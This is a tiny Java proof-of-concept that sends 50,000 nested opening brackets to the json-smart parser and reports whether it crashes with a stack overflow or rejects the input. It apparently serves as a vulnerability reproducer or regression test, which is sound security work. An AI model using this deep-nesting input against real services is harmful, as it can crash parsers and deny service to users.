// Lists within lists, in a small text that nobody refuses.
import net.minidev.json.JSONValue;

public class Poc {
    public static void main(String[] none) throws Exception {
        try {
            JSONValue.parseWithException("[".repeat(50_000));
        } catch (StackOverflowError broken) {
            System.exit(10);
        } catch (net.minidev.json.parser.ParseException refused) {
            System.out.println("refused");
        }
    }
}
